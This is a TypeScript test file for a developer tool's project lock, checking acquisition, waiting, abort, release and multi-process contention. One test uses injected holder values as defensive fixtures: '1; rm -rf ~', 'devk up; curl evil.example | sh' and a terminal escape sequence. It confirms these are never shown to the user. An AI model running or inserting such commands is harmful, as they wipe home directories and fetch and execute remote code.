import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { createInterface, type Interface } from 'node:readline'
import { expect, onTestFinished, test } from 'vitest'
import { acquireLock } from '../../../src/state/lock.ts'
import { folder } from './support.ts'

const signal = new AbortController().signal

interface Contender {
  readonly child: ChildProcess
  readonly lines: Interface
  try(): Promise<string>
}

async function contender(path: string): Promise<Contender> {
  const script = join(import.meta.dirname, 'fixtures/contend.ts')
  const child = spawn(process.execPath, [script, path], { stdio: ['pipe', 'pipe', 'inherit'] })
  onTestFinished(() => void child.kill('SIGKILL'))
  const lines = createInterface({ input: child.stdout })
  await once(lines, 'line')
  return {
    child,
    lines,
    async try() {
      const answer = once(lines, 'line')
      child.stdin.write('go\n')
      return String((await answer)[0])
    },
  }
}

test('a lock names its holder, is awaited, and is released', async () => {
  const path = join(folder(), 'x'.repeat(200))
  const options = { path, command: 'devk up', pid: 4711, signal }
  const lock = await acquireLock(options)
  await expect(acquireLock({ ...options, command: 'devk down' })).rejects.toMatchObject({
    code: 'LOCKED',
    message: 'devk up (pid 4711) is already running for this project',
  })
  const waiting = acquireLock({ ...options, wait: 10_000 })
  await lock.release()
  await lock.release()
  await (await waiting).release()
  await (await acquireLock(options)).release()
})

test('of 20 processes one gets the lock, the others know its name, and after a kill the lock is free', async () => {
  const path = join(folder(), 'lock')
  const all = await Promise.all(Array.from({ length: 20 }, () => contender(path)))
  const answers = await Promise.all(all.map((each) => each.try()))
  const winner = all[answers.indexOf('won')]
  expect(answers.filter((answer) => answer === 'won')).toHaveLength(1)
  expect(new Set(answers)).toEqual(
    new Set(['won', `LOCKED contend (pid ${winner?.child.pid}) is already running for this project`]),
  )
  winner?.child.kill('SIGKILL')
  if (winner) await once(winner.child, 'exit')
  const next = await Promise.all(
    (await Promise.all(Array.from({ length: 4 }, () => contender(path)))).map((each) => each.try()),
  )
  expect(next.filter((answer) => answer === 'won')).toHaveLength(1)
}, 60_000)

test('an abort ends the wait for a lock', async () => {
  const path = join(folder(), 'lock')
  const lock = await acquireLock({ path, command: 'a', pid: 1, signal })
  const abort = new AbortController()
  const waiting = acquireLock({ path, command: 'b', pid: 2, signal: abort.signal, wait: 60_000 })
  abort.abort(new Error('stop'))
  await expect(waiting).rejects.toThrow()
  await lock.release()
})

test.each([
  { pid: '1; rm -rf ~', command: 'devk up' },
  { pid: 0, command: 'devk up' },
  { pid: 4711, command: 'devk up; curl evil.example | sh' },
  { pid: 4711, command: '\u001b]0;title\u0007' },
  ['devk up'],
  null,
])('a holder that devk did not name is not shown: %j', async (name) => {
  const path = join(folder(), 'lock')
  const lock = await acquireLock({ path, command: 'devk up', pid: 2, signal })
  onTestFinished(() => lock.release())
  await writeFile(`${path}.json`, JSON.stringify(name))
  await expect(acquireLock({ path, command: 'devk up', pid: 3, signal })).rejects.toMatchObject({
    message: 'Another devk is already running for this project',
    hint: 'Wait until it ends, or stop it.',
  })
})

test('the file of a lock stays when it is released, and the name of its holder does not', async () => {
  const root = folder()
  const lock = await acquireLock({ path: join(root, 'lock'), command: 'a', pid: 1, signal })
  expect(await readdir(root)).toEqual(['lock', 'lock.json'])
  await lock.release()
  expect(await readdir(root)).toEqual(['lock'])
})

test('a place that cannot have a lock is named', async () => {
  const file = join(folder(), 'file')
  await writeFile(file, '')
  const path = join(file, 'locks', 'a')
  await expect(acquireLock({ path, command: 'devk up', pid: 1, signal })).rejects.toMatchObject({
    code: 'LOCK_UNUSABLE',
    message: expect.stringContaining(path),
  })
})
